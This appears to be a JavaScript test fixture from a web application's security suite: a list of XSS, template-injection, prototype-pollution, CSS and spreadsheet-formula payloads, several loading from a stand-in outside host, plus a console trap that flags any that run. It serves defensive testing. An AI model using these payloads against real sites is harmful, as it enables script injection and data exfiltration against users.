// What somebody might put into an address, a file, a field or a message to make a page do what it should not. Each that could
// run says so by the trap below; each that could fetch fetches from a host that is not ours.

const RUN = "window.__harmed('ran')";
const AWAY = "//elsewhere.example/x";

/** Texts of a few hundred characters at most; all can stand in an address. */
export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `"><script src=${AWAY}></script>`,
  `</script><script>${RUN}</script>`,
  `</title></textarea></style></noscript><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `'><img src=${AWAY} onerror="${RUN}">`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
  `<svg onload=${RUN}>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<math><mtext></p><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=javascript:parent.${RUN}></iframe>`,
  `<object data=${AWAY}></object><embed src=${AWAY}>`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<form action=${AWAY}><input autofocus onfocus=${RUN}></form>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}">HR</a>`,
  `javascript:${RUN}`,
  `JaVaScRiPt\t:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `${AWAY}`,
  `\\\\elsewhere.example\\x`,
  `..%2f..%2f${AWAY}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `'-${RUN}-'`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img src=x onerror=${RUN}&#62;`,
  `</style><style>*{background:url(${AWAY})}</style>`,
  `red;background:url(${AWAY});@import "${AWAY}"`,
  `"}],"x":{"toString":"${RUN}"`,
  `]]>--><!--<script>${RUN}</script>`,
  `__proto__`,
  `constructor`,
  `__proto__[polluted]=1`,
  `hr-manager\u0000<script>${RUN}</script>`,
  `\u202e\u2066hr-manager\u2069\ufeff\u200b`,
  `=HYPERLINK("${AWAY}")`,
  `${"(".repeat(60)}a${"+)".repeat(60)}$`,
  `${"a".repeat(60)}!`,
  `${"<b ".repeat(60)}`,
  `${"٣".repeat(30)}🧨`,
];

/** What cannot stand in an address, but in a field or a file: a half of a pair, and a very long one. */
export const ROUGH = ["\ud800<script>", `${"<img src=x onerror=window.__harmed('ran')>".repeat(3_000)}`];

/**
 * Runs in every page and frame before anything else. Whatever runs that should not, or comes into a page that is not ours, is said
 * on the console, where the watch over every test finds it, also when the page is gone.
 */
export function trap() {
  const harm = (text) => console.error(`harm: ${text}`);
  window.__harmed = harm;
  addEventListener("securitypolicyviolation", (event) => harm(`${event.violatedDirective}: ${event.blockedURI}`));
  const clean = (address) => {
    const url = new URL(address, document.baseURI);
    return ["http:", "https:", "blob:", location.protocol].includes(url.protocol) && (url.origin === location.origin || url.protocol === "https:" || origin === "null");
  };
  const look = (element) => {
    // The edition in one file puts each page together from its own text.
    if (location.protocol === "file:" && element.closest("head, html > body")?.localName === "head") return;
    if (element.matches("img, object, embed, base, meta, style, math, video, audio, source, template, foreignObject, animate, noscript *"))
      harm(`came in: ${element.outerHTML.slice(0, 200)}`);
    for (const { name, value } of element.attributes) {
      if (/^on|^srcdoc$|^style$/.test(name)) harm(`${name} of ${element.localName}: ${value.slice(0, 100)}`);
      if (/^(xlink:)?href$|^src$|action$/.test(name) && !clean(value)) harm(`${name} of ${element.localName}: ${value.slice(0, 100)}`);
    }
  };
  // From here on only scripts change the page: what was written before is the site's own.
  document.addEventListener("DOMContentLoaded", () => {
    const watch = new MutationObserver((changes) => {
      for (const { type, target, addedNodes } of changes) {
        if (type === "attributes" && target !== document.documentElement) look(target);
        for (const node of addedNodes)
          if (node.nodeType === 1) [node, ...node.querySelectorAll("*")].forEach(look);
      }
    });
    watch.observe(document, { childList: true, attributes: true, subtree: true });
  });
}

/** Runs in the page: what has changed for all objects of the page. */
export function polluted() {
  return [Object, Array, String, Function, Element].flatMap((kind) => Object.keys(kind.prototype).filter((name) => kind !== Element && name)).concat({}.polluted ?? []);
}
